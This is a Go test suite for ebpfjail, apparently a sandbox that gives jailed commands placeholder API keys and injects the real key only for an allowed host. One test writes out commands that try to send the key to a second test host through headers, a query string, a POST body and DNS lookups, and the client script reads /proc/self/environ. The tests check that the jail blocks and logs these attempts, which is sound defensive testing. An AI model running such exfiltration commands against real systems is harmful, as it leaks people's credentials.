package tests

import (
	"crypto/rand"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ebpfjail/ebpfjail/internal/testutil"
	"github.com/ebpfjail/ebpfjail/pkg/event"
)

// keyOrigin is api.test and other.test on one test host, over HTTPS with a
// certificate from a test CA that ebpfjail (not the jail) trusts through
// SSL_CERT_FILE. It answers 200 only to requests that carry the real key,
// in any of the ways a client sends one, and records everything it got.
type keyOrigin struct {
	h    *testutil.Host
	ca   *testutil.TestCA
	key  string // the real value
	mu   sync.Mutex
	seen []string
}

func newKeyOrigin(t *testing.T) *keyOrigin {
	t.Helper()
	testutil.RequireRoot(t)
	o := &keyOrigin{h: testutil.NewHost(t), ca: testutil.NewTestCA(t), key: "sk-ant-api03-" + rand.Text()}
	srv := &http.Server{Handler: http.HandlerFunc(o.serve), TLSConfig: tlsConfigFor(o.ca.Leaf(t, "api.test", "other.test"))}
	srv.TLSConfig.NextProtos = []string{"h2", "http/1.1"}
	go srv.ServeTLS(o.h.Listen(t, "tcp", "[::]:443"), "", "")
	t.Cleanup(func() { srv.Close() })
	return o
}

// serve answers "ok HOW" when the request carries the real key (HOW: the
// way it came), 401 otherwise.
func (o *keyOrigin) serve(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	r.Body = io.NopCloser(strings.NewReader(string(body)))
	var raw strings.Builder
	r.Header.Write(&raw)
	o.mu.Lock()
	o.seen = append(o.seen, fmt.Sprintf("%s %s %s\n%s\n%s", r.Host, r.Method, r.URL, raw.String(), body))
	o.mu.Unlock()
	if r.URL.Path == "/v1/messages" {
		o.messages(w, r)
		return
	}
	_, pass, basic := r.BasicAuth()
	if r.Header.Get("Upgrade") == "websocket" && r.Header.Get("Authorization") == "Bearer "+o.key {
		upgraded(w)
		return
	}
	how := ""
	switch {
	case r.Header.Get("Authorization") == "Bearer "+o.key:
		how = "bearer"
	case r.Header.Get("X-Api-Key") == o.key:
		how = "x-api-key"
	case basic && pass == o.key:
		how = "basic"
	case r.URL.Query().Get("key") == o.key:
		how = "query"
	}
	switch {
	case how == "":
		http.Error(w, "unauthorized", http.StatusUnauthorized)
	case r.URL.Path == "/echo": // as an API that repeats the key in an error
		fmt.Fprintf(w, "echo %s\n", o.key)
	case r.URL.Path == "/proto":
		fmt.Fprintf(w, "ok %s %s\n", how, r.Proto)
	default:
		fmt.Fprintf(w, "ok %s\n", how)
	}
}

// upgraded accepts a WebSocket handshake, says so in the first bytes of
// the upgraded stream, and closes it.
func upgraded(w http.ResponseWriter) {
	c, rw, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer c.Close()
	rw.WriteString("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
		"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\nupgraded bearer\n")
	rw.Flush()
}

// requests is everything the origin received, one request per entry.
func (o *keyOrigin) requests() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.seen...)
}

// run jails command with the real key in ebpfjail's environment as name,
// a secret for api.test, a rule allowing both names, and every record
// ebpfjail can write; it returns the run, all of ebpfjail's output
// (stdout, stderr, -vv, --log-json, --request-log) in one string, and the
// events.
func (o *keyOrigin) run(t *testing.T, name string, extra []string, command ...string) (result, string, []event.Event) {
	t.Helper()
	dir := t.TempDir()
	events, reqlog := filepath.Join(dir, "events.jsonl"), filepath.Join(dir, "requests.log")
	args := []string{"-vv", "--resolve", "api.test:" + o.h.IPv4.String(), "--resolve", "other.test:" + o.h.IPv4.String(),
		"--log-json", events, "--request-log", reqlog, "--secret", name + "=api.test"}
	if !slices.Contains(extra, "--sh") {
		args = append(args, "--js", "r.host === 'api.test' || r.host === 'other.test'")
	}
	if !slices.Contains(extra, "--weak") {
		args = append(args, "--user", "nobody")
	}
	args = append(append(append(args, extra...), "--"), command...)
	r := jail(t, runOpts{env: []string{"SSL_CERT_FILE=" + o.ca.PEMPath, name + "=" + o.key}, timeout: 2 * time.Minute}, args...)
	all := r.stdout + r.stderr
	for _, f := range []string{events, reqlog} {
		b, _ := os.ReadFile(f)
		all += string(b)
	}
	return r, all, readEvents(t, events)
}

// noRealKey fails if the real key shows in what.
func (o *keyOrigin) noRealKey(t *testing.T, what, got string) {
	t.Helper()
	if strings.Contains(got, o.key) {
		t.Errorf("%s holds the real key %q:\n%s", what, o.key, got)
	}
}

// clientScript sends the placeholder of API_KEY to api.test as a Bearer
// token, an x-api-key header, Basic auth's password and a query parameter
// from curl, node and python3, printing "CLIENT HOW: ANSWER" per request,
// after printing the environment the command sees; then over HTTP/2, and
// to a path that echoes the real key back, and in a WebSocket handshake.
func clientScript(py string) string {
	node := `const [how, url, key] = process.argv.slice(1); const h = {};
if (how === "bearer") h.Authorization = "Bearer " + key;
if (how === "x-api-key") h["x-api-key"] = key;
if (how === "basic") h.Authorization = "Basic " + Buffer.from("user:" + key).toString("base64");
fetch(how === "query" ? url + "?key=" + encodeURIComponent(key) : url, {headers: h})
  .then(async r => console.log("node " + how + ": " + r.status + " " + (await r.text()).trim()))
  .catch(e => console.log("node " + how + ": ERR", e.cause || e))`
	python := `import sys, base64, urllib.request, urllib.error, urllib.parse
how, url, key = sys.argv[1:]
h = {}
if how == "bearer": h["Authorization"] = "Bearer " + key
if how == "x-api-key": h["x-api-key"] = key
if how == "basic": h["Authorization"] = "Basic " + base64.b64encode(("user:" + key).encode()).decode()
if how == "query": url += "?key=" + urllib.parse.quote(key)
try:
    r = urllib.request.urlopen(urllib.request.Request(url, headers=h), timeout=10)
    print("python", how + ":", r.status, r.read().decode().strip())
except urllib.error.HTTPError as e:
    print("python", how + ":", e.code, e.read().decode().strip())`
	return `echo "env $(env | grep '^API_KEY=')"
echo "environ $(cat /proc/self/environ | tr '\0' '\n' | grep '^API_KEY=')"
u=https://api.test/
for how in bearer x-api-key basic query; do
  case $how in
  bearer) a=$(curl -sS -H "Authorization: Bearer $API_KEY" $u) ;;
  x-api-key) a=$(curl -sS -H "x-api-key: $API_KEY" $u) ;;
  basic) a=$(curl -sS -u "user:$API_KEY" $u) ;;
  query) a=$(curl -sS "$u?key=$API_KEY") ;;
  esac
  echo "curl $how: $a"
  node -e '` + node + `' $how $u "$API_KEY"
  ` + py + ` -c '` + python + `' $how $u "$API_KEY"
done
echo "curl h2: $(curl -sS --http2 -H "Authorization: Bearer $API_KEY" ${u}proto)"
echo "curl echo: $(curl -sS -H "Authorization: Bearer $API_KEY" ${u}echo)"
` + py + ` -c '` + wsHandshake + `' "$API_KEY"`
}

// wsHandshake is a WebSocket upgrade with a Bearer token (python3, no
// library but ssl), printing the status line and the first bytes after it.
const wsHandshake = `import socket, ssl, sys
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443), timeout=10), server_hostname="api.test")
s.sendall(("GET /ws HTTP/1.1\r\nHost: api.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n" +
  "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer " + sys.argv[1] + "\r\n\r\n").encode())
data = b""
while True:
    b = s.recv(4096)
    if not b: break
    data += b
head, _, rest = data.decode().partition("\r\n\r\n")
print("ws:", head.split("\r\n")[0] + ";", rest.strip())`

func TestPrivilegedSecretReachesItsHostAsTheRealKeyAndNowhereElse(t *testing.T) {
	requireTool(t, "node")
	o := newKeyOrigin(t)
	r, all, _ := o.run(t, "API_KEY", nil, "sh", "-c", clientScript(python(t)))
	if r.code != 0 {
		t.Fatalf("%s", r)
	}
	placeholder := placeholderOf(t, r, "API_KEY")
	if placeholder == o.key || len(placeholder) != len(o.key) || !strings.HasPrefix(placeholder, "sk-ant-api03-") {
		t.Fatalf("the command's API_KEY: got %q, want a placeholder of %d bytes starting sk-ant-api03- (real %q)\n%s", placeholder, len(o.key), o.key, r)
	}
	contains(t, "/proc/self/environ", r.stdout, "environ API_KEY="+placeholder+"\n")
	for _, client := range []string{"curl", "node", "python"} {
		for _, how := range []string{"bearer", "x-api-key", "basic", "query"} {
			want := fmt.Sprintf("%s %s: ok %s", client, how, how)
			if client != "curl" {
				want = fmt.Sprintf("%s %s: 200 ok %s", client, how, how)
			}
			contains(t, client+" "+how, r.stdout, want)
		}
	}
	contains(t, "HTTP/2", r.stdout, "curl h2: ok bearer HTTP/2.0\n")
	contains(t, "WebSocket", r.stdout, "ws: HTTP/1.1 101 Switching Protocols; upgraded bearer\n")
	contains(t, "the key echoed back", r.stdout, "curl echo: echo "+placeholder+"\n")
	o.noRealKey(t, "ebpfjail's output and records", all)
	for _, req := range o.requests() {
		if strings.Contains(req, placeholder) {
			t.Errorf("the origin received the placeholder:\n%s", req)
		}
	}
	noJailsLeft(t)
}

// placeholderOf is the value the command printed as "env NAME=VALUE".
func placeholderOf(t *testing.T, r result, name string) string {
	t.Helper()
	for _, line := range strings.Split(r.stdout, "\n") {
		if v, ok := strings.CutPrefix(line, "env "+name+"="); ok && v != "" {
			return v
		}
	}
	t.Fatalf("the command printed no %s\n%s", name, r)
	return ""
}

func TestPrivilegedSecretPlaceholderElsewhereIsDeniedAsMisuse(t *testing.T) {
	o := newKeyOrigin(t)
	script := `echo "env $(env | grep '^API_KEY=')"
curl -sS -o /dev/null -w "header %{http_code}\n" -H "Authorization: Bearer $API_KEY" https://other.test/
curl -sS -o /dev/null -w "query %{http_code}\n" "https://other.test/?key=$API_KEY"
curl -sS -o /dev/null -w "body %{http_code}\n" --data "key=$API_KEY" https://other.test/
getent hosts "$API_KEY.other.test"; echo "getent $?"
if command -v dig >/dev/null; then dig +short +tries=1 +time=5 "dig$API_KEY.other.test"; echo "dig $?"; fi`
	r, all, events := o.run(t, "API_KEY", nil, "sh", "-c", script)
	ph := placeholderOf(t, r, "API_KEY")
	for _, want := range []string{"header 403", "query 403", "body 403"} {
		contains(t, "placeholder to another host", r.stdout, want)
	}
	if strings.Contains(r.stdout, "getent 0") {
		t.Errorf("a lookup of a name holding the placeholder was answered\n%s", r)
	}
	for _, req := range o.requests() {
		if strings.Contains(strings.ToLower(req), strings.ToLower(ph)) {
			t.Errorf("the origin received the placeholder:\n%s", req)
		}
	}
	o.noRealKey(t, "ebpfjail's output and records", all)
	wantMisuse(t, events, "curl", "header", "query", "body")
	wantMisuse(t, events, "getent", "dns")
	if _, err := exec.LookPath("dig"); err == nil {
		wantMisuse(t, events, "dig", "dns")
	}
	noJailsLeft(t)
}

// wantMisuse fails unless events hold a secret_misuse of API_KEY by comm
// (with its pid and exe) for each where (a prefix of the event's where).
func wantMisuse(t *testing.T, events []event.Event, comm string, wheres ...string) {
	t.Helper()
	var got []string
	for _, w := range wheres {
		found := false
		for _, e := range events {
			if e.Type != event.TypeSecretMisuse {
				continue
			}
			got = append(got, fmt.Sprintf("%s pid %d comm %s exe %s where %s host %s", e.Secret, e.PID, e.Comm, e.Exe, e.Where, e.Host+e.Name))
			if e.Secret == "API_KEY" && e.Comm == comm && e.PID != 0 && e.Exe != "" && strings.HasPrefix(e.Where, w) {
				found = true
			}
		}
		if !found {
			t.Errorf("no secret_misuse event of API_KEY by %s (with its pid and exe) where %s; got: %q", comm, w, got)
		}
	}
}

// messages is enough of Anthropic's Messages API for an agent CLI: the
// real key in x-api-key (or as a Bearer token) gets one assistant turn
// saying agentAnswer, streamed when asked; anything else gets 401.
func (o *keyOrigin) messages(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("X-Api-Key") != o.key && r.Header.Get("Authorization") != "Bearer "+o.key {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		io.WriteString(w, `{"type":"error","error":{"type":"authentication_error","message":"invalid x-api-key"}}`)
		return
	}
	msg := `{"id":"msg_ebpfjail","type":"message","role":"assistant","model":"claude-test","content":%s,"stop_reason":%s,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":%d}}`
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if !strings.Contains(strings.ReplaceAll(string(body), " ", ""), `"stream":true`) {
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, msg, `[{"type":"text","text":"`+agentAnswer+`"}]`, `"end_turn"`, 5)
		return
	}
	w.Header().Set("Content-Type", "text/event-stream")
	sse := func(typ, data string) { fmt.Fprintf(w, "event: %s\ndata: %s\n\n", typ, data) }
	sse("message_start", `{"type":"message_start","message":`+fmt.Sprintf(msg, "[]", "null", 1)+`}`)
	sse("content_block_start", `{"type":"content_block_start","index":0,"content_block":{"type":"text","text":""}}`)
	sse("content_block_delta", `{"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"`+agentAnswer+`"}}`)
	sse("content_block_stop", `{"type":"content_block_stop","index":0}`)
	sse("message_delta", `{"type":"message_delta","delta":{"stop_reason":"end_turn","stop_sequence":null},"usage":{"output_tokens":5}}`)
	sse("message_stop", `{"type":"message_stop"}`)
}

// agentAnswer is what the test API answers an agent.
const agentAnswer = "the test origin answers through ebpfjail"

func TestPrivilegedBadSecretInputStopsBeforeTheCommand(t *testing.T) {
	testutil.RequireRoot(t)
	dir := sharedDir(t)
	for _, c := range []struct {
		name  string
		env   []string
		args  []string
		code  int
		error string
		hint  string
	}{
		{"not in the environment", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
			"--secret EBPFJAIL_T_KEY: EBPFJAIL_T_KEY is not in ebpfjail's environment", "sudo --preserve-env=EBPFJAIL_T_KEY"},
		{"empty value", []string{"EBPFJAIL_T_KEY="}, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
			"--secret EBPFJAIL_T_KEY: the value is empty", "a secret needs a value"},
		{"too short for a placeholder", []string{"EBPFJAIL_T_KEY=short"}, []string{"--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
			"--secret EBPFJAIL_T_KEY: the value is too short", "at least 16 letters"},
		{"host also --no-mitm", []string{"EBPFJAIL_T_KEY=sk-0123456789abcdefghij"}, []string{"--no-mitm", "*.test", "--secret", "EBPFJAIL_T_KEY=api.test"}, 2,
			`--secret EBPFJAIL_T_KEY host "api.test" matches --no-mitm "*.test"`, "TLS is never opened"},
		{"secret command fails", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-cmd", "EBPFJAIL_T_KEY=echo 'no such entry' >&2; exit 3"}, 125,
			"--secret-cmd EBPFJAIL_T_KEY: exit status 3: no such entry", "runs once with sh -c"},
		{"secret file missing", nil, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-file", "EBPFJAIL_T_KEY=" + filepath.Join(dir, "none")}, 125,
			"--secret-file EBPFJAIL_T_KEY: open", "read once"},
		{"option without --secret", []string{"EBPFJAIL_T_KEY=sk-0123456789abcdefghij"}, []string{"--secret", "EBPFJAIL_T_KEY=api.test", "--secret-in-body", "OTHER"}, 2,
			"--secret-in-body OTHER: no --secret OTHER", "--secret OTHER=HOSTGLOB"},
		{"invalid name", nil, []string{"--secret", "MY-KEY=api.test"}, 2,
			`--secret: "MY-KEY" is not a variable name`, "letters, digits and _"},
	} {
		t.Run(c.name, func(t *testing.T) {
			marker := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-"))
			args := append(append([]string{"--user", "nobody"}, c.args...), "--", "touch", marker)
			r := jail(t, runOpts{env: c.env}, args...)
			if r.code != c.code {
				t.Errorf("exit %d, want %d\n%s", r.code, c.code, r)
			}
			lines := strings.Split(strings.TrimSpace(r.stderr), "\n")
			if want := "ebpfjail: error: " + c.error; !strings.HasPrefix(lines[0], want) || strings.Count(r.stderr, "ebpfjail: error:") != 1 {
				t.Errorf("stderr: got %q, want one error line starting %q", r.stderr, want)
			}
			if len(lines) < 2 || !strings.HasPrefix(lines[1], "ebpfjail: hint: ") || !strings.Contains(r.stderr, c.hint) {
				t.Errorf("stderr: got %q, want a hint with %q", r.stderr, c.hint)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Errorf("the command ran")
			}
		})
	}
	noJailsLeft(t)
}

// installClaude installs the npm package of Claude Code where the jailed
// user can run it and returns the claude binary; it skips when npm or the
// registry is not there.
func installClaude(t *testing.T) string {
	t.Helper()
	requireTool(t, "npm")
	dir := sharedDir(t)
	cmd := exec.Command("npm", "install", "--no-audit", "--no-fund", "--prefix", dir, "@anthropic-ai/claude-code@2")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Skipf("cannot install @anthropic-ai/claude-code with npm (%v):\n%s", err, out)
	}
	claude := filepath.Join(dir, "node_modules", ".bin", "claude")
	if out, err := exec.Command(claude, "--version").CombinedOutput(); err != nil {
		t.Skipf("the installed claude does not run here (%v): %s", err, out)
	}
	return claude
}

func TestPrivilegedClaudeCodeWorksWithOnlyThePlaceholder(t *testing.T) {
	o := newKeyOrigin(t)
	claude := installClaude(t)
	home := sharedDir(t)
	script := `echo "env $(env | grep '^ANTHROPIC_API_KEY=')"
export HOME=` + home + ` ANTHROPIC_BASE_URL=https://api.test DISABLE_TELEMETRY=1 CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 DISABLE_AUTOUPDATER=1
exec ` + claude + ` -p 'Say hello.' </dev/null`
	// An agent refused by its API retries for minutes: stop it first.
	r, all, _ := o.run(t, "ANTHROPIC_API_KEY", []string{"--timeout", "100"}, "sh", "-c", script)
	ph := placeholderOf(t, r, "ANTHROPIC_API_KEY")
	if !strings.HasPrefix(ph, "sk-ant-api03-") || ph == o.key {
		t.Errorf("claude's ANTHROPIC_API_KEY: got %q, want a placeholder keeping the prefix sk-ant-api03-", ph)
	}
	if r.code != 0 || !strings.Contains(r.stdout, agentAnswer) {
		t.Errorf("claude -p: got %s\nwant exit 0 and %q on stdout", r, agentAnswer)
	}
	got, sawKey := 0, false
	for _, req := range o.requests() {
		if strings.HasPrefix(req, "api.test POST /v1/messages") {
			got++
			sawKey = sawKey || strings.Contains(req, "X-Api-Key: "+o.key)
		}
		if strings.Contains(req, ph) {
			t.Errorf("the origin received the placeholder:\n%s", req)
		}
	}
	t.Logf("claude printed %q; the origin got %d Messages API requests", strings.TrimSpace(r.stdout), got)
	if got == 0 || !sawKey {
		t.Errorf("the origin got %d Messages API requests, with the real key: %v; want at least one with it (all: %q)", got, sawKey, o.requests())
	}
	o.noRealKey(t, "ebpfjail's output and records", all)
	noJailsLeft(t)
}

func TestPrivilegedSecretFromFileOrCommandStaysOutOfRuleProgramsAndWorksInWeakMode(t *testing.T) {
	o := newKeyOrigin(t)
	bearer := `echo "env $(env | grep '^API_KEY=')"; curl -sS -H "Authorization: Bearer $API_KEY" https://api.test/`
	t.Run("sh rule", func(t *testing.T) {
		dir := sharedDir(t)
		envFile := filepath.Join(dir, "rule-env")
		r, all, _ := o.run(t, "API_KEY", []string{"--sh", "env >> " + envFile + "; exit 0"}, "sh", "-c", bearer)
		contains(t, "curl", r.stdout, "ok bearer")
		env, err := os.ReadFile(envFile)
		if err != nil || !strings.Contains(string(env), "HTTPJAIL_HOST=api.test") {
			t.Fatalf("the --sh rule did not run (%v): %q\n%s", err, env, r)
		}
		o.noRealKey(t, "the --sh rule's environment", string(env))
		o.noRealKey(t, "ebpfjail's output and records", all)
	})
	keyFile := filepath.Join(t.TempDir(), "key") // root only, as a key file should be
	if err := os.WriteFile(keyFile, []byte(o.key+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, from := range [][]string{{"--secret-file", "API_KEY=" + keyFile}, {"--secret-cmd", "API_KEY=cat " + keyFile + " && echo done >&2"}} {
		t.Run(from[0], func(t *testing.T) {
			args := append([]string{"--user", "nobody", "--js", "r.host === 'api.test'", "--resolve", "api.test:" + o.h.IPv4.String(),
				"--secret", "API_KEY=api.test"}, from...)
			r := jail(t, runOpts{env: []string{"SSL_CERT_FILE=" + o.ca.PEMPath}}, append(args, "--", "sh", "-c", bearer)...)
			contains(t, "curl", r.stdout, "ok bearer")
			o.noRealKey(t, "ebpfjail's output", r.stdout+r.stderr)
		})
	}
	t.Run("weak", func(t *testing.T) {
		r, all, _ := o.run(t, "API_KEY", []string{"--weak"}, "sh", "-c", bearer)
		ph := placeholderOf(t, r, "API_KEY")
		if ph == o.key {
			t.Errorf("--weak gave the command the real key")
		}
		contains(t, "curl through --weak's proxy", r.stdout, "ok bearer")
		o.noRealKey(t, "ebpfjail's output and records", all)
	})
	noJailsLeft(t)
}
